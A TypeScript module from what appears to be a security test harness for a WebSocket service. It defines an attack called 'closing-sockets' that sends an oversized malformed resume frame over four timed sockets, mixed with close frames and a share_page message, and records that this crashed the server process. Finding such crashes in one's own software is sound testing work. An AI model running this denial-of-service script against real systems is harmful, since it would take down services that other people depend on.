/** Long iterations of the event loop, and sockets that close in them with a refusal on its way (C1). */
import { CLOSE, controlFrame, longTextFrame } from '../../frames.js';
import type { Attack } from '../attack.js';
import { type Attacker, pause } from '../attacker.js';
import { frameOf } from '../commands-at-once.js';
import { makePage } from '../holdings.js';

/** Pages that a wrong resume names: some 270 KB, long to read. */
const NAMED = 6_000;

/** A resume that is refused when all of it has been read. */
export const wrongResume = (): string =>
  longTextFrame(
    `{"type":"resume","payload":{"log":"x","pages":{${Array.from({ length: NAMED }, (_, n) => `"${String(n).padStart(36, '0')}":1`).join(',')},"x":-1}}}`,
  );

const resume = wrongResume();
const close = controlFrame(CLOSE, '\x03\xe8');

let page: string | undefined;

async function strike(attacker: Attacker): Promise<void> {
  const [first, second, third, fourth] = await Promise.all([
    attacker.socket({ query: '&resume=1' }),
    attacker.socket({ query: '&resume=1' }),
    attacker.socket(),
    attacker.socket(),
  ]);
  if (!first || !second || !third || !fourth) return pause(20);
  first.write(resume.slice(0, -1));
  second.write(resume.slice(0, -1));
  // Until all but the last byte is there.
  await pause(60);
  first.write(resume.slice(-1));
  await pause(15);
  third.write(close);
  second.write(resume.slice(-1));
  fourth.write(
    frameOf({
      type: 'share_page',
      payload: { page_id: page ?? 'x', subject_type: 'user', subject_id: 'nobody', can_view: true, can_edit: false },
    }) + close,
  );
  await pause(40);
  for (const socket of [first, second, third, fourth]) socket.cut();
}

export const closingSockets: Attack = {
  name: 'closing-sockets',
  found: 'C1: four sockets ended the process',
  prepare: async (attacker) => {
    page = await makePage(attacker);
  },
  run: (attacker) => attacker.over(4, () => strike(attacker)),
};
